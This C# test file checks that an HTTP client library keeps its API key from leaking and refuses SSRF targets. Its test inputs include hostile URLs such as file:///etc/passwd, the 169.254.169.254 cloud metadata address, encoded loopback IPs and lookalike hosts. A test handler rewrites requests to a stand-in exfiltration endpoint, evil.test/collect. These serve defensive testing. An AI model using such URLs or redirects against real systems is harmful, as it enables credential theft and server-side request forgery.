using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;

namespace ClientGen.Http.Tests;

public sealed class KeySafetyTests
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("https://api.acme.test/x", true)]
    [InlineData("https://API.ACME.TEST/x", true)]
    [InlineData("https://api.acme.test:443/x", true)]
    [InlineData("https://api.acme.test:8443/x", false)]
    [InlineData("http://api.acme.test/x", false)]
    [InlineData("https://acme.test/x", false)]
    [InlineData("https://api.acme.test.evil.test/x", false)]
    [InlineData("https://evil.test/api.acme.test", false)]
    [InlineData("https://u@api.acme.test/x", false)]
    public async Task KeyHandler_SendsOnlyToTheVendorsOrigin(string url, bool sent)
    {
        var wire = new ScriptedHandler().Then(200);
        using var client = new HttpMessageInvoker(new KeyHandler { InnerHandler = wire });
        using var request = new HttpRequestMessage(HttpMethod.Get, url);
        request.SetTicket(new SingleSend(new VendorKey(Vendor.Profile, Vendor.Options(), _ => Vendor.Key), Vendor.Look, own: []));

        if (sent)
        {
            await client.SendAsync(request, Token);
            wire.Sent.Single().Headers["X-Api-Key"].ShouldBe(Vendor.Key);
        }
        else
        {
            var thrown = await Should.ThrowAsync<InvalidOperationException>(client.SendAsync(request, Token));
            thrown.ToString().ShouldNotContain(Vendor.Key);
            wire.Sent.ShouldBeEmpty();
        }
    }

    [Fact]
    public async Task OperationWithoutKey_SendsNone()
    {
        var wire = new ScriptedHandler().Then(200, "{}");

        await Vendor.Transport(wire).SendAsync(new ApiRequest(Vendor.Open).Path("id", "7"), null, Token);

        wire.Sent.Single().Headers.Keys.ShouldNotContain("X-Api-Key");
    }

    [Fact]
    public async Task HandlerThatRedirects_GetsNoKeyOut()
    {
        var wire = new ScriptedHandler();
        var services = new ServiceCollection();
        var builder = services.AddVendorTransport<VendorOptions>(Vendor.Profile, o => o.ApiKey = Vendor.Key);
        builder.ConfigurePrimaryHttpMessageHandler(() => wire).AddHttpMessageHandler(() => new Rewriter());
        await using var provider = services.BuildServiceProvider();

        await Should.ThrowAsync<InvalidOperationException>(
            provider.GetVendorTransport(Vendor.Profile).SendAsync(Vendor.StartRequest(), null, Token)
        );

        wire.Sent.ShouldBeEmpty();
    }

    [Theory]
    [InlineData(301)]
    [InlineData(302)]
    [InlineData(303)]
    [InlineData(307)]
    [InlineData(308)]
    public async Task Redirect_OfARealServer_IsNotFollowed(int status)
    {
        var elsewhere = 0;
        await using var other = await LoopbackServer.StartAsync(context =>
        {
            Interlocked.Increment(ref elsewhere);
            return Task.CompletedTask;
        });
        await using var vendor = await LoopbackServer.StartAsync(context =>
        {
            context.Response.StatusCode = status;
            context.Response.Headers.Location = new Uri(other.Address, "/stolen").ToString();
            return Task.CompletedTask;
        });
        using var transport = ApiTransport.Create(Vendor.Profile, Simulated(vendor));

        var thrown = await Should.ThrowAsync<RedirectRefusedException>(transport.SendAsync<Thing>(Vendor.LookRequest(), null, Token));

        thrown.Status.ShouldBe(status);
        elsewhere.ShouldBe(0);
    }

    [Fact]
    public async Task Files_GoOutWithoutKeyCookiesOrDefaultHeaders()
    {
        var seen = new List<IHeaderDictionary>();
        await using var server = await LoopbackServer.StartAsync(async context =>
        {
            seen.Add(new HeaderDictionary(context.Request.Headers.ToDictionary()));
            context.Response.Cookies.Append("session", "abc");
            if (context.Request.Path == "/down")
                await context.Response.Body.WriteAsync(FileServer.Bytes);
            else
                await context.Response.WriteAsync("{}");
        });
        var options = Simulated(server);
        options.Headers["x-api-version"] = "1";
        using var transport = ApiTransport.Create(Vendor.Profile, options);

        await transport.SendAsync(Vendor.LookRequest(), null, Token);
        await transport.UploadAsync(
            new Uri(server.Address, "/up?sig=1").ToString(),
            ImageSource.Bytes([1, 2, 3], "a.jpg"),
            cancellationToken: Token
        );
        await transport.DownloadAsync(new Uri(server.Address, "/down").ToString(), new MemoryStream(), cancellationToken: Token);

        seen[0]["X-Api-Key"].ToString().ShouldBe(Vendor.Key);
        foreach (var headers in seen.Skip(1))
            headers.Keys.ShouldBeSubsetOf(NetworkHeaders.All);
    }

    [Fact]
    public async Task DefaultHeadersOfAllClients_GoToNoStorage()
    {
        var seen = new Dictionary<string, string>();
        await using var server = await LoopbackServer.StartAsync(async context =>
        {
            seen[context.Request.Path] = context.Request.Headers["X-Tenant"].ToString();
            await context.Response.WriteAsync(context.Request.Path.Value!.EndsWith("down", StringComparison.Ordinal) ? "GIF89a" : "{}");
        });
        await using var host = new Hosted(
            _ => { },
            services =>
                services.ConfigureHttpClientDefaults(all =>
                    all.ConfigureHttpClient(http => http.DefaultRequestHeaders.Add("X-Tenant", "secret"))
                ),
            options => (options.BaseAddress, options.AllowInsecureLoopback) = (server.Address, true)
        );

        await host.PollAsync();
        await host.Transport.UploadAsync(
            new Uri(server.Address, "/up").ToString(),
            ImageSource.Bytes([1, 2, 3], "a.jpg"),
            cancellationToken: Token
        );
        await host.Transport.DownloadAsync(new Uri(server.Address, "/down").ToString(), new MemoryStream(), cancellationToken: Token);

        seen.ShouldBe(
            new Dictionary<string, string>
            {
                ["/jobs/7"] = "secret",
                ["/up"] = "",
                ["/down"] = "",
            },
            ignoreOrder: true
        );
    }

    [Theory]
    [InlineData("http://bucket.test/a")]
    [InlineData("ftp://bucket.test/a")]
    [InlineData("file:///etc/passwd")]
    [InlineData("/relative")]
    [InlineData("https://u:p@bucket.test/a")]
    [InlineData("https://127.0.0.1/a")]
    [InlineData("https://[::1]/a")]
    [InlineData("https://10.0.0.1/a")]
    [InlineData("https://169.254.169.254/latest/meta-data")]
    [InlineData("https://[::ffff:10.0.0.1]/a")]
    [InlineData("https://2130706433/a")]
    [InlineData("https://0x7f.1/a")]
    public async Task Files_UnsafeUrl_IsRefusedUnsent(string url)
    {
        var files = new ScriptedHandler();
        using var transport = ApiTransport.Create(Vendor.Profile, Vendor.Options(), new ScriptedHandler(), files);

        await Should.ThrowAsync<UnsafeUrlException>(transport.DownloadAsync(url, new MemoryStream(), cancellationToken: Token));
        await Should.ThrowAsync<UnsafeUrlException>(transport.UploadAsync(url, ImageSource.Bytes([1], "a"), cancellationToken: Token));

        files.Sent.ShouldBeEmpty();
    }

    [Fact]
    public async Task Files_NameThatLeadsToThisMachine_IsRefusedWhenConnecting()
    {
        var called = 0;
        await using var server = await LoopbackServer.StartAsync(context =>
        {
            called++;
            return Task.CompletedTask;
        });
        using var transport = ApiTransport.Create(Vendor.Profile, Vendor.Options());

        var thrown = await Should.ThrowAsync<UnsafeUrlException>(
            transport.DownloadAsync($"https://localhost:{server.Address.Port}/a?sig=s3cret", new MemoryStream(), cancellationToken: Token)
        );

        thrown.ToString().ShouldNotContain("s3cret");
        called.ShouldBe(0);
    }

    internal static VendorOptions Simulated(LoopbackServer server)
    {
        var options = Vendor.Options();
        options.BaseAddress = server.Address;
        options.AllowInsecureLoopback = true;
        return options;
    }

    private sealed class Rewriter : DelegatingHandler
    {
        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            request.RequestUri = new Uri("https://evil.test/collect");
            return base.SendAsync(request, cancellationToken);
        }
    }
}
